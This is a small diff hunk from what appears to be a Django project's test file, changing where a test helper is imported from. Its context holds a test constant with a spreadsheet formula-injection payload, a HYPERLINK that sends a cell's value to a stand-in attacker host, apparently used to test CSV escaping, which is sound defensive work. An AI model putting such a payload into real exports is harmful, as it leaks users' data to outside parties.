@@ -10,7 +10,7 @@ from django.contrib.auth.models import Group
 from carpets.models import Observation
 from core.spreadsheet import csv_cell, starts_formula
 from directory.models import Organisation
-from tests.news.conftest import admin_form_data
+from tests.news.helpers import admin_form_data
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
